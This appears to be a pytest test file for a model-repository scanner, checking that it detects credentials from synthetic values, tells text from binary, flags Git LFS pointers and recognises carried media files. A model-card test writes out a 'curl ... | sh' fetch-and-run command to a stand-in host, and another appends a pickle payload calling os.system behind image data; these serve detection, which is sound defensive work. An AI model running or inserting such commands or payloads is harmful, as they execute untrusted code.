"""Text, credentials, Git LFS pointers, model cards, and files that a repository merely carries."""

from __future__ import annotations

import random
import string
import struct
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from repository_builders import asked, facts_of, formats_of, of_kind

from modelguard.formats._secrets import KINDS
from modelguard.terms.facts import Header, Malformed, Noted, Opaque, Secret, Unread

_random = random.Random(7)


def made(length: int, alphabet: str = string.ascii_letters + string.digits) -> str:
    """Return text that looks random: assembled here, so that no credential stands in the source."""
    return "".join(_random.choice(alphabet) for _ in range(length))


CREDENTIALS = {
    "Hugging Face token": "hf_" + made(34, string.ascii_letters),
    "Hugging Face organisation token": "api_org_" + made(34, string.ascii_letters),
    "Anthropic key": "sk-ant-api03-" + made(80),
    "Slack webhook": "https://hooks.slack.com/services/T" + made(8) + "/B" + made(8) + "/" + made(24),
    "PyPI token": "pypi-AgE" + made(80),
    "Discord webhook": "https://discord.com/api/webhooks/" + made(18, string.digits) + "/" + made(68),
    "AWS access key id": "AKIA" + made(16, string.ascii_uppercase + string.digits),
    "GitHub token": "ghp_" + made(36),
    "GitLab token": "glpat-" + made(20),
    "OpenAI key": "sk-" + made(48),
    "Slack token": "xoxb-" + made(30, string.digits + string.ascii_letters),
    "Google API key": "AIza" + made(35),
    "Stripe key": "sk_live_" + made(24),
    "npm token": "npm_" + made(36),
    "Telegram bot token": "583920174:AA" + made(33),
    "Azure storage key": "AccountKey=" + made(86) + "==",
    "Weights & Biases key": "WANDB_API_KEY=" + made(40, "0123456789abcdef"),
    "password in an address": "postgres://admin:" + made(16) + "@db.example.org/x",
    "private key": "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(made(64) for _ in range(4)),
}


def test_every_kind_of_credential_has_a_case() -> None:
    assert set(CREDENTIALS) == {kind.name for kind in KINDS}


@pytest.mark.parametrize(("kind", "secret"), CREDENTIALS.items(), ids=CREDENTIALS)
@pytest.mark.parametrize("path", [".env", "train.py", "config.json", "README.md"])
def test_a_credential_in_text_is_told_without_being_shown(kind: str, secret: str, path: str) -> None:
    facts = facts_of(path, f'token = "{secret}"\n')
    found = of_kind(facts, Secret)
    assert kind in [fact.kind for fact in found]
    assert all(secret not in str(fact) for fact in facts if not isinstance(fact, Noted))
    assert all(len(fact.sample) < 40 for fact in found)


def test_a_private_key_on_one_line_of_json_is_found() -> None:
    key = "-----BEGIN PRIVATE KEY-----\\n" + "\\n".join(made(64) for _ in range(4)) + "\\n-----END PRIVATE KEY-----"
    assert of_kind(facts_of("key.json", f'{{"private_key": "{key}"}}'), Secret)


@pytest.mark.parametrize(
    "text",
    [
        "hf_" + "x" * 34,
        "hf_your_token_here",
        "AKIAIOSFODNN7EXAMPLE",
        "sk-" + "0" * 48,
        "https://user:password@example.org",
        "https://user:<password>@host.org",
        "https://example.org:8080/a@b",
        "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
        "-----BEGIN PUBLIC KEY-----\n" + made(300),
        "hf_hub_download(repo_id, filename)",
        "task-" + made(48),
    ],
)
def test_a_placeholder_is_no_credential(text: str) -> None:
    assert not of_kind(facts_of("README.md", text), Secret)


def test_a_credential_across_two_pieces_of_a_long_text_is_found_once() -> None:
    secret = CREDENTIALS["Hugging Face token"]
    text = "a " * ((1 << 19) - 10) + secret + " b" * (1 << 19)
    assert len(of_kind(facts_of("log.txt", text), Secret)) == 1


TEXTS = {
    "ascii": b"Apache License\n",
    "utf-8": "Größe 模型 🙂\n".encode(),
    "a long text of wide characters": ("模" * 50_000).encode(),
    "utf-8 with a mark": b"\xef\xbb\xbfhello",
    "utf-16": "hello wörld".encode("utf-16"),
    "a word list with control characters": "\n".join(["\x01", "\x7f", *(f"word{n}" for n in range(500))]).encode(),
}


@pytest.mark.parametrize("data", TEXTS.values(), ids=TEXTS)
def test_text_is_not_opaque_and_asks_for_nothing(data: bytes) -> None:
    facts = facts_of("somefile", data)
    assert formats_of(facts) == ("text",)
    assert not asked(facts)
    assert not of_kind(facts, Unread)


def test_latin_1_is_text_under_the_endings_where_it_is_usual() -> None:
    assert formats_of(facts_of("LICENSE", b"Copyright \xa9 somebody\n")) == ("text",)
    assert of_kind(facts_of("model.bin", b"Copyright \xa9 somebody\n"), Opaque)


@pytest.mark.parametrize("data", ["it’s “quoted”".encode("cp1252"), "模型的许可证".encode("gb18030")])
def test_code_pages_of_windows_are_text_under_the_same_endings(data: bytes) -> None:
    facts = facts_of("LICENSE.txt", data)
    assert formats_of(facts) == ("text",)
    assert not of_kind(facts, Unread)
    assert [fact.rule for fact in of_kind(facts, Noted)] == ["text-encoding"]


BINARIES = {
    "nul": b"abc\0def",
    "controls": b"\x01\x02\x03\x04",
    "no utf-8": b"\x80\x81\x82",
    "pickle": b"\x80\x04\x95\x10\x00\x00\x00",
    "zip": b"PK\x03\x04\x14\x00",
    "floats": struct.pack("<8f", *range(8)),
}


@pytest.mark.parametrize("data", BINARIES.values(), ids=BINARIES)
def test_binary_is_not_text(data: bytes) -> None:
    assert of_kind(facts_of("somefile.txt", data), Opaque)


@pytest.mark.parametrize(
    "middle", [b"\0" * 9, b"\xff\xfe\x80", b"\x01\x02\x03" * 9999], ids=["nul", "utf-8", "controls"]
)
def test_binary_in_the_middle_of_a_long_text_is_not_read_as_text(middle: bytes) -> None:
    facts = facts_of("long.txt", b"word\n" * 50_000 + middle + b"word\n" * 50_000)
    assert [fact.format for fact in of_kind(facts, Unread)] == ["text"]


POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "a1" * 32 + "\nsize 438000000\n"


@pytest.mark.parametrize("path", ["model.safetensors", "pytorch_model.bin", "config.json", "x.onnx"])
def test_w_08_a_pointer_instead_of_the_file_is_told(path: str) -> None:
    [fact] = of_kind(facts_of(path, POINTER), Malformed)
    assert fact.rule == "lfs-pointer"


@pytest.mark.parametrize("text", ["See: " + POINTER, POINTER + "x" * 1024])
def test_w_08_text_about_pointers_is_no_pointer(text: str) -> None:
    assert not of_kind(facts_of("notes.txt", text), Malformed)


def test_h_10_instructions_in_a_model_card_are_only_noted() -> None:
    text = "# Model\n\n```\npip install git+https://x.example/y\ncurl https://x.example/i | sh\n```\n"
    facts = facts_of("README.md", text)
    assert {fact.rule for fact in of_kind(facts, Noted)} == {"instruction"}
    assert len(of_kind(facts, Noted)) == 2
    assert not asked(facts)
    assert not of_kind(facts_of("README.md", "pip install transformers\n"), Noted)


def png(*, after: bytes = b"", cut: int | None = None) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    body = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
    return (b"\x89PNG\r\n\x1a\n" + body + after)[:cut]


def riff(kind: bytes, data: bytes = b"\0" * 20) -> bytes:
    return b"RIFF" + struct.pack("<I", len(kind) + len(data)) + kind + data


CARRIED = {
    "PNG": png(),
    "JPEG": b"\xff\xd8\xff\xe0\x00\x10JFIF\0" + b"\x01" * 40 + b"\xff\xd9",
    "GIF": b"GIF89a\x01\0\x01\0\x80\0\0" + b"\0" * 20,
    "WebP": riff(b"WEBPVP8 "),
    "BMP": b"BM" + struct.pack("<I", 60) + b"\0" * 54,
    "TIFF": b"II*\0\x08\0\0\0" + b"\0" * 20,
    "WAV": riff(b"WAVEfmt "),
    "FLAC": b"fLaC\0\0\0\x22" + b"\0" * 40,
    "MP3": b"ID3\x03\0\0\0\0\0\0" + b"\0" * 40,
    "Ogg": b"OggS\0\x02" + b"\0" * 40,
    "MP4": b"\0\0\0\x18ftypisom" + b"\0" * 40,
    "TrueType": b"\0\x01\0\0\0\x0c\0\x80\0\x03\0\x40GSUB" + b"\0" * 40,
    "WOFF": b"wOF2\0\x01\0\0" + b"\0" * 40,
    "PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"\0" * 40,
    "Parquet": b"PAR1" + b"\x15" * 40 + b"PAR1",
    "Arrow file": b"ARROW1\0\0" + b"\0" * 40 + b"ARROW1",
    "SQLite": b"SQLite format 3\0" + b"\0" * 84,
    "desktop settings": b"\0\0\0\x01Bud1" + b"\0" * 40,
}


@pytest.mark.parametrize(("kind", "data"), CARRIED.items(), ids=CARRIED)
def test_a_file_that_is_merely_carried_is_recognised_under_any_name(kind: str, data: bytes) -> None:
    facts = facts_of("assets/file", data)
    assert [fact.properties["kind"] for fact in of_kind(facts, Header)] == [kind]
    assert not asked(facts)
    assert not of_kind(facts, Opaque)
    assert not of_kind(facts, Unread)


@pytest.mark.parametrize("data", [data[1:] for data in CARRIED.values()], ids=CARRIED)
def test_without_its_first_byte_it_is_not(data: bytes) -> None:
    assert not of_kind(facts_of("assets/file", data), Header)


@pytest.mark.parametrize("kind", ["PNG", "WebP", "WAV"])
def test_w_07_what_lies_behind_a_picture_is_read_as_a_file_of_its_own(kind: str) -> None:
    data = CARRIED[kind] + b"\x80\x04cos\nsystem\n(S'echo pwned'\ntR."
    facts = facts_of("logo.png", data)
    assert "bytes-after-the-end" in [fact.rule for fact in of_kind(facts, Noted)]
    [opaque] = of_kind(facts, Opaque)
    assert opaque.location.members == ("after the end",)


def test_a_few_zeros_behind_a_picture_are_padding() -> None:
    assert not of_kind(facts_of("logo.png", png(after=b"\0\0\n")), Opaque)


@pytest.mark.parametrize("cut", [30, 40, 60])
def test_a_truncated_picture_is_unread(cut: int) -> None:
    assert [fact.format for fact in of_kind(facts_of("logo.png", png(cut=cut)), Unread)] == ["picture"]


def test_a_pdf_that_acts_is_noted() -> None:
    facts = facts_of("paper.pdf", CARRIED["PDF"] + b"<< /OpenAction << /S /JavaScript >> >>")
    assert [fact.rule for fact in of_kind(facts, Noted)] == ["active-document"]


@settings(deadline=5000)
@given(st.binary(), st.sampled_from(["a.txt", "a.png", "LICENSE", "a.wav", "a.pdf", "a.md", "a.ttf", "a.parquet"]))
def test_any_bytes_under_any_name_give_facts(data: bytes, name: str) -> None:
    facts_of(name, data)


@settings(deadline=5000)
@given(st.sampled_from(sorted(CARRIED.values())), st.integers(0, 80), st.binary(max_size=40))
def test_damaged_carried_files_give_facts(data: bytes, at: int, patch: bytes) -> None:
    facts_of("file", data[:at] + patch + data[at + len(patch) :])


@pytest.mark.parametrize(
    "header",
    ["", "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A\n\n", "Version: GnuPG v2\n\n"],
    ids=["", "pem", "pgp"],
)
def test_a_private_key_with_headers_is_found(header: str) -> None:
    key = "-----BEGIN RSA PRIVATE KEY-----\n" + header + "\n".join(made(64) for _ in range(3))
    assert of_kind(facts_of("id_rsa", key), Secret)


def test_the_words_around_a_key_are_no_key() -> None:
    assert not of_kind(facts_of("notes.txt", "-----BEGIN PRIVATE KEY-----" * 20), Secret)
